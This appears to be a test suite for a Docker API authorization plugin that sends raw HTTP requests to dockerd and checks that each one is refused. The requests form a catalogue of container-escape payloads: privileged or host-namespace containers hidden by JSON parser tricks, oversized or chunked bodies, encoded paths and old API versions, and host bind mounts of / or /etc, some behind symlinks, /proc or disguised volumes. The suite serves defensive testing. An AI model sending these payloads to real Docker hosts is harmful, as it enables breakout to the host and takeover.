/**
 * Every attack on a gate of the Docker API that the field knows, and the variants that it suggests, by raw HTTP on the socket
 * of a real dockerd. Each has a witness: what the attack would have made is not there.
 */
import { mkdtempSync, rmSync, symlinkSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { type GatedDockerd, startGatedDockerd, strictSettings } from '../engines/gated-dockerd.ts';
import { busyboxImage, describeWith, writeDockerArchive } from '../engines/index.ts';
import { type RawRequest, sendRaw } from './raw-http.ts';

const image = 'trusted.example/harbor/busybox:1';
const retagged = 'trusted.example/harbor/app:1';
const json = (value: unknown) => JSON.stringify(value);
const directory = mkdtempSync(join(tmpdir(), 'pw-attack-'));
symlinkSync('/etc', join(directory, 'link'));

/** Makes the body 1.2 MiB, which dockerd does not show. */
const padding = 'x'.repeat(1_200_000);
const contentType = (...types: readonly string[]) => types.map((type) => ['Content-Type', type] as const);
const privileged = { Image: image, HostConfig: { Privileged: true } };
const created = (body: unknown, rest: Partial<RawRequest> = {}): RawRequest => ({
  path: '/v1.41/containers/create?name=attack',
  body: typeof body === 'string' ? body : json(body),
  ...rest,
});
const host = (HostConfig: object) => created({ Image: image, HostConfig });

const readings: readonly (readonly [string, RawRequest])[] = [
  ['plainly', created(privileged)],
  ['with lower-case keys', created(`{"Image":"${image}","hostconfig":{"privileged":true}}`)],
  ['with an upper-case key', created(`{"Image":"${image}","HostConfig":{"PRIVILEGED":true}}`)],
  ['with a key twice', created(`{"Image":"${image}","HostConfig":{},"HostConfig":{"Privileged":true}}`)],
  [
    'with a key twice, once escaped',
    created(`{"Image":"${image}","HostConfig":{},"Host\\u0043onfig":{"Privileged":true}}`),
  ],
  ['with a key twice, deep', created(`{"Image":"${image}","HostConfig":{"Privileged":false,"Privileged":true}}`)],
  ['with a long s', created(`{"Image":"${image}","Ho\u017ftConfig":{"Privileged":true}}`)],
  [
    'with a Kelvin sign',
    created(`{"Image":"${image}","HostConfig":{"NetworkMode":"none","Ulim\u0131ts":[],"Networ\u212aMode":"host"}}`),
  ],
  ['with a second document', created(`{"Image":"${image}"}{"HostConfig":{"Privileged":true}}`)],
  [
    'with a second document before',
    created(`{"HostConfig":{"Privileged":true},"Image":"${image}"}{"Image":"${image}"}`),
  ],
  ['with a byte order mark', created(`\ufeff${json(privileged)}`)],
  ['with a number beyond doubles', created(`{"Image":"${image}","HostConfig":{"Privileged":true,"Memory":1e400}}`)],
  ['with a prototype', created(`{"Image":"${image}","__proto__":{"HostConfig":{}},"HostConfig":{"Privileged":true}}`)],
  [
    'with a nest',
    created(`{"Image":"${image}","Labels":${'['.repeat(9000)}${']'.repeat(9000)},"HostConfig":{"Privileged":true}}`),
  ],
  [
    'with bytes that are no UTF-8',
    created('', {
      body: Buffer.from(`{"Image":"${image}","Labels":{"a":"\xff"},"HostConfig":{"Privileged":true}}`, 'latin1'),
    }),
  ],
  ['as text for a truth value', created(`{"Image":"${image}","HostConfig":{"Privileged":"true"}}`)],
  ['in the old place', created(`{"Image":"${image}","Privileged":true,"Binds":["/etc:/x"]}`)],
  ['in 1.2 MiB', created({ ...privileged, Labels: { padding } })],
  ['in 1.2 MiB, chunked', created({ ...privileged, Labels: { padding } }, { isChunked: true })],
  ['in 1 MiB to the byte', created({ ...privileged, Labels: { p: 'x'.repeat(1_048_576 - 92) } })],
  ['in spaces of 1.2 MiB', created(`${json(privileged)}${' '.repeat(1_200_000)}`)],
  ['in spaces of 1.2 MiB, before', created(`${' '.repeat(1_200_000)}${json(privileged)}`, { isChunked: true })],
  ['in chunks', created(privileged, { isChunked: true })],
  ['as JSON of another type', created(privileged, { headers: contentType('text/json') })],
  ['as JSON in capitals', created(privileged, { headers: contentType('APPLICATION/JSON') })],
  ['as JSON with a parameter', created(privileged, { headers: contentType('application/json; charset=utf-8') })],
  [
    'as JSON and a form',
    created(privileged, { headers: contentType('application/json', 'application/x-www-form-urlencoded') }),
  ],
  [
    'as a form and JSON',
    created(privileged, { headers: contentType('application/x-www-form-urlencoded', 'application/json') }),
  ],
  ['as nothing', created(privileged, { headers: [] })],
  ['without a version', created(privileged, { path: '/containers/create?name=attack' })],
  ['in API 1.23', created(privileged, { path: '/v1.23/containers/create?name=attack' })],
  ['in API 1.24', created(privileged, { path: '/v1.24/containers/create?name=attack' })],
  ['in API 1.024', created(privileged, { path: '/v1.024/containers/create?name=attack' })],
  ['in API 1.41.0', created(privileged, { path: '/v1.41.0/containers/create?name=attack' })],
  [
    'with a path that ends in /auth',
    created({ ...privileged, Labels: { padding } }, { path: '/v1.41/containers/create?name=attack&x=/auth' }),
  ],
  ['with an encoded slash', created(privileged, { path: '/v1.41/containers%2Fcreate?name=attack' })],
  ['with an encoded letter', created(privileged, { path: '/v1.41/containers/%63reate?name=attack' })],
  ['with two slashes', created(privileged, { path: '/v1.41//containers/create?name=attack' })],
  ['with a dot', created(privileged, { path: '/v1.41/./containers/create?name=attack' })],
  ['with dots', created(privileged, { path: '/v1.41/images/../containers/create?name=attack' })],
  ['with encoded dots', created(privileged, { path: '/v1.41/images/%2e%2e/containers/create?name=attack' })],
  ['with a slash at the end', created(privileged, { path: '/v1.41/containers/create/?name=attack' })],
  ['with a whole URI', created(privileged, { path: 'http://docker/v1.41/containers/create?name=attack' })],
  ['with a name twice', created(privileged, { path: '/v1.41/containers/create?name=harmless&name=attack' })],
  ['in HTTP 1.0', created(privileged, { version: '1.0' })],
  ['with another method', created(privileged, { method: 'post' })],
  [
    'with a method beside',
    created(privileged, {
      method: 'GET',
      headers: [['X-HTTP-Method-Override', 'POST'], ...contentType('application/json')],
    }),
  ],
];

const rights: readonly (readonly [string, object])[] = [
  ['a capability', { CapAdd: ['SYS_ADMIN'] }],
  ['every capability', { CapAdd: ['all'] }],
  ['a capability with a prefix', { CapAdd: ['cap_sys_admin'] }],
  ['a device', { Devices: [{ PathOnHost: '/dev/kmsg', PathInContainer: '/dev/x', CgroupPermissions: 'rwm' }] }],
  ['a rule of devices', { DeviceCgroupRules: ['b *:* rwm'] }],
  ['a request for devices', { DeviceRequests: [{ Driver: 'nvidia', Count: -1, Capabilities: [['gpu']] }] }],
  ['no seccomp', { SecurityOpt: ['seccomp=unconfined'] }],
  ['no AppArmor', { SecurityOpt: ['apparmor:unconfined'] }],
  ['paths that are not masked', { SecurityOpt: ['systempaths=unconfined'] }],
  ['no masked paths', { MaskedPaths: [] }],
  ['no read-only paths', { ReadonlyPaths: [] }],
  ['the processes of the host', { PidMode: 'host' }],
  ['the network of the host', { NetworkMode: 'host' }],
  ['the IPC of the host', { IpcMode: 'host' }],
  ['the name of the host', { UTSMode: 'host' }],
  ['the users of the host', { UsernsMode: 'host' }],
  ['the network of another container', { NetworkMode: 'container:plain' }],
  ['the processes of another container', { PidMode: 'container:plain' }],
  ['mounts of another container', { VolumesFrom: ['plain'] }],
  ['another runtime', { Runtime: 'io.containerd.runc.v2' }],
  ['another cgroup', { CgroupParent: '/' }],
  ['a sysctl', { Sysctls: { 'kernel.shm_rmid_forced': '1' } }],
  ['the files of the host', { Binds: ['/:/host'] }],
  ['/etc', { Binds: ['/etc:/x:ro'] }],
  ['/etc as a mount', { Mounts: [{ Type: 'bind', Source: '/etc', Target: '/x' }] }],
  ['/etc with a longer name', { Binds: ['/srv/../etc/.:/x'] }],
  ['/etc behind a symlink', { Binds: [`${directory}/link:/x`] }],
  ['what is below a symlink', { Binds: [`${directory}/link/ssl:/x`] }],
  ['/etc behind /proc', { Binds: ['/proc/self/root/etc:/x'] }],
  ['/etc behind /proc and dots', { Binds: ['/srv/../proc/thread-self/root/etc:/x'] }],
  ["the directory of dockerd's socket", { Binds: ['/var/run:/x'] }],
  ["dockerd's data", { Binds: ['/var/lib/docker:/x'] }],
  [
    '/etc as a volume of the request',
    {
      Mounts: [
        {
          Type: 'volume',
          Target: '/x',
          VolumeOptions: { DriverConfig: { Name: 'local', Options: { type: 'none', o: 'bind', device: '/etc' } } },
        },
      ],
    },
  ],
  ['/etc as a volume that is there', { Binds: ['disguised:/x'] }],
  ['/etc as a volume that is there, as a mount', { Mounts: [{ Type: 'volume', Source: 'disguised', Target: '/x' }] }],
];

describeWith(['dockerd', 'busybox'], 'attacks on the docker gate', () => {
  let engine: GatedDockerd;
  let ids: { readonly good: string; readonly evil: string };

  const names = async () =>
    ((await engine.call('GET', '/containers/json?all=1')) as readonly { readonly Names: readonly string[] }[])
      .flatMap(({ Names }) => Names)
      .sort();
  const idOf = async (name: string) =>
    ((await engine.call('GET', `/images/${name}/json`)) as { readonly Id: string }).Id;
  const tags = async () =>
    ((await engine.call('GET', '/images/json')) as readonly { readonly RepoTags: readonly string[] | null }[])
      .flatMap(({ RepoTags }) => RepoTags ?? [])
      .sort();

  beforeAll(async () => {
    engine = await startGatedDockerd();
    for (const [reference, command] of [
      [image, 'good'],
      [retagged, 'evil'],
    ] as const) {
      const archive = join(directory, `${command}.tar`);
      const made = busyboxImage();
      writeDockerArchive({ ...made, config: { ...made.config, Labels: { is: command } } }, archive, reference);
      await engine.load(archive);
    }
    ids = { good: await idOf(image), evil: await idOf(retagged) };
    engine.rules.images = [ids.good];
    // There before the gate was: whoever mounts it gets /etc.
    engine.rules.settings = { ...strictSettings, whenUnreadable: 'allow-and-record' };
    const disguise = { type: 'none', o: 'bind', device: '/etc' };
    await disguised(engine, { Name: 'disguised', Driver: 'local', DriverOpts: disguise });
    engine.rules.settings = strictSettings;
    await engine.call('POST', '/containers/create?name=plain', { Image: image, HostConfig: { NetworkMode: 'none' } });
    await engine.call('POST', '/containers/plain/start');
    await engine.call('POST', '/containers/create?name=waiting', { Image: image, HostConfig: { NetworkMode: 'none' } });
  });
  afterAll(async () => {
    await engine?.stop();
    rmSync(directory, { recursive: true, force: true });
  });
  beforeEach(() => {
    engine.referee.refused.length = 0;
  });

  // What one attack would make is not to fail the next.
  afterEach(() => engine.removeContainer('attack').catch(() => undefined));

  /** It is refused, by the gate or by dockerd before the gate is asked. */
  const isRefused = async (...requests: readonly RawRequest[]) => {
    const { status, text } = await sendRaw(engine.socket, ...requests);
    expect([301, 400, 403, 404, 405], text).toContain(status);
    return text;
  };
  const noContainer = async () => expect(await names()).toEqual(['/plain', '/waiting']);

  it('the witness sees a container that is allowed', async () => {
    expect((await sendRaw(engine.socket, created({ Image: image }))).status).toBe(201);
    expect(await names()).toContain('/attack');
    await engine.removeContainer('attack');
  });

  it.each(readings)('a privileged container, asked for %s', async (_, request) => {
    await isRefused(request);
    await noContainer();
  });

  it.each(rights)('a container with %s', async (_, HostConfig) => {
    expect(await isRefused(host(HostConfig))).toMatch(/authorization denied by plugin/);
    await noContainer();
  });

  it('a privileged container behind a harmless request on one connection', async () => {
    await isRefused({ method: 'GET', path: '/v1.41/containers/json', headers: [] }, created(privileged));
    await noContainer();
  });

  describe('images', () => {
    it.each([
      ['a name that was put on it here', () => retagged],
      ['its whole ID', () => ids.evil],
      ['its ID without the algorithm', () => ids.evil.slice(7)],
      ['the first three digits of its ID', () => ids.evil.slice(7, 10)],
      ['the first digits of its ID with the algorithm', () => ids.evil.slice(0, 12)],
      ['a name of another kind', () => `${retagged}@${ids.evil}`],
    ])('one that is not certified, by %s', async (_, name) => {
      await isRefused(created({ Image: name() }));
      await noContainer();
    });

    const form = 'fromImage=evil.example/x&tag=1';
    it.each<readonly [string, RawRequest]>([
      ['a pull', { path: '/v1.41/images/create?fromImage=evil.example/x&tag=1', headers: [] }],
      [
        'a pull in a form',
        {
          path: '/v1.41/images/create?fromImage=good.example/x&tag=1',
          headers: contentType('application/x-www-form-urlencoded'),
          body: form,
        },
      ],
      [
        'a pull in a form, chunked',
        {
          path: '/v1.41/images/create?fromImage=good.example/x&tag=1',
          headers: contentType('application/x-www-form-urlencoded'),
          body: form,
          isChunked: true,
        },
      ],
      [
        'a pull in a form under two types',
        {
          path: '/v1.41/images/create?fromImage=good.example/x&tag=1',
          headers: contentType('application/x-www-form-urlencoded', 'application/json'),
          body: form,
          isChunked: true,
        },
      ],
      [
        'a pull of two names',
        { path: '/v1.41/images/create?fromImage=evil.example/x&tag=1&fromImage=good.example/x', headers: [] },
      ],
      [
        'a pull of a name and another tag',
        { path: '/v1.41/images/create?fromImage=good.example/x:1&tag=2', headers: [] },
      ],
      ['a pull of every tag', { path: '/v1.41/images/create?fromImage=good.example/x', headers: [] }],
      ['an import', { path: '/v1.41/images/create?fromSrc=-&repo=trusted.example/new&tag=1', body: 'x', headers: [] }],
      ['a load', { path: '/v1.41/images/load', body: 'x', headers: contentType('application/x-tar') }],
      ['a tag', { path: `/v1.41/images/${retagged}/tag?repo=trusted.example/new&tag=1`, headers: [] }],
      [
        'a tag in a form',
        {
          path: `/v1.41/images/${retagged}/tag`,
          headers: contentType('application/x-www-form-urlencoded'),
          body: 'repo=trusted.example/new&tag=1',
        },
      ],
      ['a commit', { path: '/v1.41/commit?container=plain&repo=trusted.example/new&tag=1', body: '{}' }],
      [
        'a commit of 1.2 MiB',
        { path: '/v1.41/commit?container=plain&repo=trusted.example/new&tag=1', body: json({ Labels: { padding } }) },
      ],
      [
        'a build',
        { path: '/v1.41/build?t=trusted.example/new:1&remote=x', body: 'x', headers: contentType('application/x-tar') },
      ],
      [
        'a session',
        {
          path: '/v1.41/session',
          headers: [
            ['Connection', 'Upgrade'],
            ['Upgrade', 'h2c'],
          ],
        },
      ],
      [
        'the control channel of BuildKit',
        {
          path: '/grpc',
          headers: [
            ['Connection', 'Upgrade'],
            ['Upgrade', 'h2c'],
          ],
        },
      ],
    ])('%s', async (_, request) => {
      engine.rules.pulls = (reference) => reference === 'good.example/x:1';
      const before = await tags();
      expect(await isRefused(request)).toMatch(/authorization denied by plugin|Bad Request/);
      expect(await tags()).toEqual(before);
    });
  });

  describe('what is there already', () => {
    const state = async (name: string) =>
      (await engine.call('GET', `/containers/${name}/json`)) as {
        readonly State: { readonly Status: string };
        readonly HostConfig: { readonly Binds: unknown; readonly Privileged: boolean; readonly Memory: number };
        readonly ExecIDs: unknown;
        readonly Name: string;
      };
    const settings = { Binds: ['/etc:/x'], NetworkMode: 'host' };

    it.each<readonly [string, RawRequest]>([
      ['settings in API 1.23', { path: '/v1.23/containers/waiting/start', body: json(settings) }],
      ['settings in API 1.12', { path: '/v1.12/containers/waiting/start', body: json(settings) }],
      [
        'settings of 1.2 MiB in API 1.23',
        { path: '/v1.23/containers/waiting/start', body: json({ ...settings, padding }) },
      ],
      [
        'settings of 1.2 MiB in chunks',
        { path: '/v1.23/containers/waiting/start', body: json({ ...settings, padding }), isChunked: true },
      ],
      ['settings in API 1.24', { path: '/v1.24/containers/waiting/start', body: json(settings) }],
      ['settings in chunks', { path: '/v1.41/containers/waiting/start', body: json(settings), isChunked: true }],
      [
        'settings as text',
        { path: '/v1.41/containers/waiting/start', body: json(settings), headers: contentType('text/plain') },
      ],
      ['a short body', { path: '/v1.41/containers/waiting/start', body: '{}' }],
      ['a checkpoint', { path: '/v1.41/containers/waiting/start?checkpoint=a&checkpoint-dir=/etc', headers: [] }],
      [
        'a checkpoint in a form',
        {
          path: '/v1.41/containers/waiting/start',
          body: 'checkpoint=a',
          headers: contentType('application/x-www-form-urlencoded'),
        },
      ],
      ['an encoded slash', { path: '/v1.23/containers%2Fwaiting/start', body: json(settings) }],
    ])('a start with %s', async (_, request) => {
      await isRefused(request);
      const { State, HostConfig } = await state('waiting');
      expect([State.Status, HostConfig.Binds]).toEqual(['created', null]);
    });

    const exec = (body: unknown, rest: Partial<RawRequest> = {}): RawRequest => ({
      path: '/v1.41/containers/plain/exec',
      body: typeof body === 'string' ? body : json(body),
      ...rest,
    });
    const strong = { Cmd: ['sh'], Privileged: true };
    it.each<readonly [string, RawRequest]>([
      ['plainly', exec(strong)],
      ['with lower-case keys', exec('{"Cmd":["sh"],"privileged":true}')],
      ['with a key twice', exec('{"Cmd":["sh"],"Privileged":false,"Privileged":true}')],
      ['with a second document', exec('{"Cmd":["sh"]}{"Privileged":true}')],
      ['in 1.2 MiB', exec({ ...strong, Env: [`p=${padding}`] })],
      ['in 1.2 MiB, chunked', exec({ ...strong, Env: [`p=${padding}`] }, { isChunked: true })],
      ['in API 1.23', exec(strong, { path: '/v1.23/containers/plain/exec' })],
      ['as text', exec(strong, { headers: contentType('text/plain') })],
    ])('a privileged process in a container, asked for %s', async (_, request) => {
      await isRefused(request);
      expect((await state('plain')).ExecIDs).toBeNull();
    });

    it.each<readonly [string, RawRequest]>([
      [
        'devices',
        {
          path: '/v1.41/containers/plain/update',
          body: json({ Memory: 67108864, MemorySwap: 67108864, Devices: [{ PathOnHost: '/dev/kmsg' }] }),
        },
      ],
      [
        '1.2 MiB',
        { path: '/v1.41/containers/plain/update', body: json({ Memory: 67108864, MemorySwap: 67108864, padding }) },
      ],
      [
        'a key in other case',
        { path: '/v1.41/containers/plain/update', body: json({ memory: 67108864, memoryswap: 67108864 }) },
      ],
    ])('an update with %s', async (_, request) => {
      await isRefused(request);
      expect((await state('plain')).HostConfig.Memory).toBe(0);
    });

    it('files into a container', async () => {
      const path = '/v1.41/containers/waiting/archive?path=/';
      await isRefused({ method: 'PUT', path, headers: contentType('application/x-tar'), body: Buffer.alloc(1024) });
      expect(await engine.call('GET', '/containers/waiting/changes')).toBeNull();
    });
  });

  const disguise = { type: 'none', o: 'bind', device: '/etc' };
  it.each<readonly [string, RawRequest]>([
    ['plainly', { path: '/v1.41/volumes/create', body: json({ Name: 'attack', DriverOpts: disguise }) }],
    [
      'of a longer path',
      {
        path: '/v1.41/volumes/create',
        body: json({ Name: 'attack', DriverOpts: { ...disguise, device: '/srv/../etc' } }),
      },
    ],
    [
      'behind a symlink',
      {
        path: '/v1.41/volumes/create',
        body: json({ Name: 'attack', DriverOpts: { ...disguise, device: `${directory}/link` } }),
      },
    ],
    ['with lower-case keys', { path: '/v1.41/volumes/create', body: json({ name: 'attack', driveropts: disguise }) }],
    [
      'with a key twice',
      { path: '/v1.41/volumes/create', body: `{"Name":"attack","DriverOpts":{},"DriverOpts":${json(disguise)}}` },
    ],
    [
      'in 1.2 MiB',
      { path: '/v1.41/volumes/create', body: json({ Name: 'attack', DriverOpts: disguise, Labels: { padding } }) },
    ],
    [
      'in 1.2 MiB, chunked',
      {
        path: '/v1.41/volumes/create',
        body: json({ Name: 'attack', DriverOpts: disguise, Labels: { padding } }),
        isChunked: true,
      },
    ],
    ['in API 1.23', { path: '/v1.23/volumes/create', body: json({ Name: 'attack', DriverOpts: disguise }) }],
  ])('a volume that is /etc, asked for %s', async (_, request) => {
    await isRefused(request);
    const { Volumes } = (await engine.call('GET', '/volumes')) as {
      readonly Volumes: readonly { readonly Name: string }[];
    };
    expect(Volumes.map(({ Name }) => Name)).toEqual(['disguised']);
  });

  it.each<readonly [string, RawRequest]>([
    ['a plugin', { path: '/v1.41/plugins/pull?remote=evil.example/x&name=x', body: '[]' }],
    ['a plugin that is taken away', { method: 'DELETE', path: '/v1.41/plugins/portwarden', headers: [] }],
    ['a plugin that is switched off', { path: '/v1.41/plugins/portwarden/disable', headers: [] }],
    ['a swarm', { path: '/v1.41/swarm/init', body: json({ ListenAddr: '127.0.0.1:2377' }) }],
    [
      'a service',
      {
        path: '/v1.41/services/create',
        body: json({ Name: 'attack', TaskTemplate: { ContainerSpec: { Image: retagged } } }),
      },
    ],
    ['memory of the engine', { method: 'GET', path: '/debug/pprof/heap', headers: [] }],
    ['what is no route', { path: '/v1.41/containers/plain/copy', body: '{"Resource":"/etc/passwd"}' }],
  ])('%s', async (_, request) => {
    await isRefused(request);
    expect(((await engine.call('GET', '/info')) as { Swarm: { LocalNodeState: string } }).Swarm.LocalNodeState).toBe(
      'inactive',
    );
  });
});

/** Made past the gate's rules, as it would have been before there was a gate. */
async function disguised(engine: GatedDockerd, body: object): Promise<void> {
  const { decide } = engine.referee;
  engine.referee.decide = async () => ({ id: '0', verdict: { outcome: 'allow', findings: [] }, message: '' });
  try {
    await engine.call('POST', '/volumes/create', body);
  } finally {
    engine.referee.decide = decide;
  }
}
